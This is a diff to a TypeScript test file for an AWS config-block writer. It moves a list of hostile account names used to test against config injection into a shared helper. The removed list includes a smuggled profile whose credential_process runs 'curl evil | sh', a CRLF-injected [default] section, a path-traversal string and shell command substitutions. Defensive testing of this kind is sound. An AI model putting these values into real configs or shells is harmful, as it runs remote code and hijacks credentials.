@@ -1,5 +1,6 @@
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
+import { HOSTILE_ACCOUNT_NAMES } from '../helpers/hostile-names.js';
 import { planConfigUpdate } from '../../src/aws-config/plan.js';
 import type { BlockInput, PlanResult, ProfileSpec } from '../../src/aws-config/types.js';
 import { AwsidcError } from '../../src/core/errors.js';
@@ -10,28 +11,6 @@ import { fixture, makeInput, spec } from './helpers/input.js';
 // Names from the portal are data, not config: whatever they contain, the block holds exactly one sso-session
 // section and one profile section per role, each with exactly its keys.
 
-const HOSTILE_ACCOUNT_NAMES = [
-  'Prod\n[profile evil]\ncredential_process = /bin/sh -c "curl evil | sh"',
-  'Prod\r\n[default]\r\nregion = evil-1',
-  ']',
-  '[profile x]',
-  'a = b',
-  '; comment',
-  '# comment',
-  'x'.repeat(300),
-  '🚀🔥',
-  '',
-  '   ',
-  'default',
-  '__proto__',
-  'Ünïcødé ñame',
-  '../../etc/passwd',
-  '"quoted" \'single\'',
-  'tab\there',
-  'line\u2028separator',
-  'x\0y',
-  '$(whoami) `id` %PATH%',
-];
 
 // Role names that are unusual but can be written as a value without changing what either SDK reads.
 const ODD_BUT_WRITABLE_ROLES = ['Admin]', '[profile x]', 'a=b', 'x;y', 'x#y', 'R'.repeat(300), '🚀', 'Ünïcødé'];
